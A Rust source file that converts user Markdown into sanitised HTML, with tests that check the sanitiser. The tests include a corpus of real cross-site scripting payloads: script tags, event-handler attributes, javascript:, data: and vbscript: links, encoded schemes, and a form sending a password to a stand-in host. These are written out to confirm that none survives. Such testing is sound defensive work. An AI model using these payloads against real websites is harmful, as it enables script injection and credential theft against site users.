//! Texts that people wrote in Markdown, as safe HTML.

use std::{collections::HashSet, sync::LazyLock};

use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// Markdown as HTML: raw HTML is shown as the text it is, then everything that is not plain formatting is removed.
/// Headings begin at the third level, below the page's own, and none is left out on the way down. Use it with `inner_html`, inside `class="prose"`.
#[must_use]
pub fn markdown(text: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut here = HeadingLevel::H2;
    let events = Parser::new_ext(text, options).map(|event| match event {
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Heading { level, id: _, classes: _, attrs: _ }) => {
            here = lower(level).min(next(here));
            Event::Start(Tag::Heading { level: here, id: None, classes: Vec::new(), attrs: Vec::new() })
        }
        Event::End(TagEnd::Heading(_)) => Event::End(TagEnd::Heading(here)),
        Event::SoftBreak => Event::HardBreak,
        other => other,
    });
    let mut unsafe_html = String::with_capacity(text.len() * 2);
    html::push_html(&mut unsafe_html, events);
    CLEANER.clean(&unsafe_html).to_string()
}

/// A text in Markdown as plain words: a line for each paragraph, heading and point.
#[must_use]
pub fn plain(text: &str) -> String {
    let mut words = String::with_capacity(text.len());
    for event in Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH) {
        match event {
            Event::Text(text) | Event::Code(text) | Event::Html(text) | Event::InlineHtml(text) => {
                words.push_str(&text)
            }
            Event::Start(Tag::Item) => words.push_str("· "),
            Event::SoftBreak | Event::HardBreak => words.push('\n'),
            Event::End(TagEnd::TableCell) => words.push(' '),
            Event::End(
                TagEnd::Paragraph
                | TagEnd::Heading(_)
                | TagEnd::Item
                | TagEnd::TableHead
                | TagEnd::TableRow
                | TagEnd::CodeBlock,
            ) if !words.ends_with('\n') => words.push('\n'),
            _ => {}
        }
    }
    words.trim_end().to_owned()
}

const fn lower(level: HeadingLevel) -> HeadingLevel {
    next(next(level))
}

const fn next(level: HeadingLevel) -> HeadingLevel {
    use HeadingLevel::{H1, H2, H3, H4, H5, H6};
    match level {
        H1 => H2,
        H2 => H3,
        H3 => H4,
        H4 => H5,
        H5 | H6 => H6,
    }
}

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut cleaner = ammonia::Builder::empty();
    let tags = [
        "p",
        "br",
        "hr",
        "h3",
        "h4",
        "h5",
        "h6",
        "strong",
        "em",
        "del",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ];
    cleaner
        .tags(tags.into_iter().collect())
        .generic_attributes(HashSet::new())
        .add_tag_attributes("a", ["href"])
        .add_tag_attributes("ol", ["start"])
        .url_schemes(HashSet::from(["https", "http", "tel", "mailto"]))
        .link_rel(Some("nofollow noopener ugc"));
    cleaner
});

#[cfg(test)]
mod tests {
    use super::markdown;

    #[test]
    fn formatting_stays_and_scripts_are_only_text() {
        assert_eq!(markdown("# 题\n\n**要**"), "<h3>题</h3>\n<p><strong>要</strong></p>\n");
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[点](javascript:alert(1))",
            "![图](https://evil.example/a.png)",
            "a <b onclick=x>b</b>",
            "<svg/onload=alert(1)>",
        ] {
            let html = markdown(text);
            for bad in ["<script", "<img", "<svg", "javascript:", "<b "] {
                assert!(!html.contains(bad), "{text} became {html}");
            }
        }
    }

    #[test]
    fn no_level_of_headings_is_left_out() {
        assert_eq!(markdown("# 一\n\n### 二\n\n# 三"), "<h3>一</h3>\n<h4>二</h4>\n<h3>三</h3>\n");
        assert_eq!(markdown("#### 深"), "<h3>深</h3>\n");
    }

    /// What people type who want more than to be read.
    const CORPUS: [&str; 28] = [
        "<ScRiPt>alert(1)</sCrIpT>",
        "<<script>alert(1)//<</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">点</a>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<form action=https://evil.example><input name=password></form>",
        "<p style=\"position:fixed;inset:0\">盖住</p>",
        "[点](JaVaScRiPt:alert(1))",
        "[点](java&#10;script:alert(1))",
        "[点](&#x6A;avascript:alert(1))",
        "[点](data:text/html;base64,PHNjcmlwdD4=)",
        "[点](vbscript:msgbox(1))",
        "[点](//evil.example\" onmouseover=\"alert(1))",
        "[点](https://a.example \"题\\\" onclick=alert(1) x=\\\"\")",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/track.gif)",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "`<img src=x onerror=alert(1)>`",
        "```<script>\n<script>alert(1)</script>\n```",
        "| <script>a</script> | b |\n|---|---|\n| <img src=x onerror=1> | c |",
        "[ref]: javascript:alert(1)\n[点][ref]",
        "<javascript:alert(1)>",
        "</div></main><h1>假公告</h1>",
        "# <b onclick=alert(1)>题</b>",
    ];

    #[test]
    fn nothing_that_people_type_becomes_active() {
        let allowed = [
            "p",
            "br",
            "hr",
            "h3",
            "h4",
            "h5",
            "h6",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ];
        for text in CORPUS {
            let html = markdown(text);
            // Every tag that is left is one of ours, with no attribute but these.
            for tag in html.split('<').skip(1) {
                let tag = tag.split('>').next().unwrap();
                let name = tag.trim_start_matches('/').split(' ').next().unwrap().trim_end_matches('/');
                assert!(allowed.contains(&name), "{text} became {html}");
                for attribute in tag.split("=\"").collect::<Vec<_>>().iter().rev().skip(1) {
                    let attribute = attribute.rsplit([' ', '"']).next().unwrap();
                    assert!(matches!(attribute, "href" | "rel" | "start"), "{text} became {html}");
                }
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    assert!(!tag.to_lowercase().contains(scheme), "{text} became {html}");
                }
            }
        }
    }

    #[test]
    fn links_do_not_vouch_for_where_they_lead() {
        assert!(markdown("[甲](https://a.example)").contains("rel=\"nofollow noopener ugc\""));
    }
}
